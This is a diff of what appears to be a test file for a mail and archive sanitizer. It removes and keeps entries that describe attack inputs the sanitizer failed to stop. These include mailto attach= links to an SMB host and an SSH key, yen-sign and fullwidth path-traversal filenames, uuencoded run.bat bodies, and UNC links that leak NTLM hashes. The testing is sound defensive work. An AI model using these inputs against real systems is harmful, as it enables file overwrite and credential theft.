@@ -828,32 +828,12 @@ BENIGN_CASES = {
 }
 # crossings found by this file (case id → what crossed); the lead fixes them in cdr/
 CROSSINGS: dict[str, str] = {
-    "mail-html-mailto-attach": "the cleaned HTML body keeps <a href=\"mailto:x@example.jp?attach=\\\\10.66.66.66\\share\\x\">"
-    " and ?attach=file:///C:/Users/x/.ssh/id_rsa: clients that honour attach= (Thunderbird and others, 'Mailto: me your"
-    " secrets', 2020) attach a local file or reach the share (NTLM) on one click; the PDF path drops attach=, the mail path not",
     "mail-uuencoded-body": "a plain body holding 'begin 644 run.bat' + uuencoded lines crosses unchanged; Thunderbird and"
     " Becky! decode it and offer run.bat as an attachment, past the attachment rebuild",
-    "mail-name-yen-traversal": "attachment filename*=UTF-8''..%C2%A5..%C2%A5Startup%C2%A5run.txt crosses as"
-    " '¥..¥Startup¥run.txt': U+00A5 is best-fit mapped to 0x5C (backslash) in CP932 (WindowsBestFit/bestfit932.txt,"
-    " 'WorstFit' 2025), so a program saving it through the ANSI code page writes \\..\\Startup\\run.txt",
-    "zip-yen-sign-traversal": "ZIP member '..¥..¥Startup¥run.txt' is released as '¥..¥Startup¥run.txt' (only the leading"
-    " '..' is cut): a backslash path to any ANSI-code-page extractor on Japanese Windows (U+00A5 -> 0x5C best fit)",
-    "mail-name-jis-roman-yen": "filename=\"=?ISO-2022-JP?B?…?=\" whose bytes are '..' ESC ( J '\\..\\Startup\\run.txt'"
-    " (JIS X 0201 Roman, where 0x5C is the yen sign) crosses as '¥..¥Startup¥run.txt'; Microsoft's CP50220 reads that"
-    " 0x5C as a backslash, so the name cdr judged is not the one the sender meant either",
-    "tar-yen-sign-traversal": "tar member '..¥..¥Startup¥run.txt' crosses into the ZIP as '¥..¥Startup¥run.txt'"
-    " (same as the ZIP case)",
-    "zip-lookalike-names": "ZIP members '..／..／evil.txt' (U+FF0F) and '‥/evil.txt' (U+2025) are released as"
-    " '／..／evil.txt' and '‥/evil.txt', which NFKC folds to '/../evil.txt' and '../evil.txt'; harmless to Explorer,"
-    " a traversal to any tool that normalises names (cp1252 best fit maps U+FF0F to '/')",
-    "mail-name-fullwidth-traversal": "attachment name '．．／．．／x.txt' (U+FF0E, U+FF0F) crosses unchanged; NFKC and"
-    " cp1252 best fit make it ../../x.txt",
     "mail-plain-body-unc-and-file-links": "a plain body with '\\\\10.66.66.66\\share\\資料.docx' and"
     " '<file://10.66.66.66/share/x.exe>' crosses unchanged; Outlook and Thunderbird make both clickable, and one click"
     " sends the clerk's NTLM hash to that host (low: a click, and SMB out of the LGWAN is normally closed; the README's"
     " defang_links covers web links only)",
-    "zip-long-names": "a member 'd/' * 150 + 'x.txt' (305 characters, 151 folders) is released as is: beyond MAX_PATH"
-    " (260), so Explorer's extraction fails on the clerk's PC; a name cdr should shorten or leave out",
 }
 CASES = build_cases()
 ALL = {**CASES, **LOCAL_FILE_SVGS, **BENIGN_CASES}
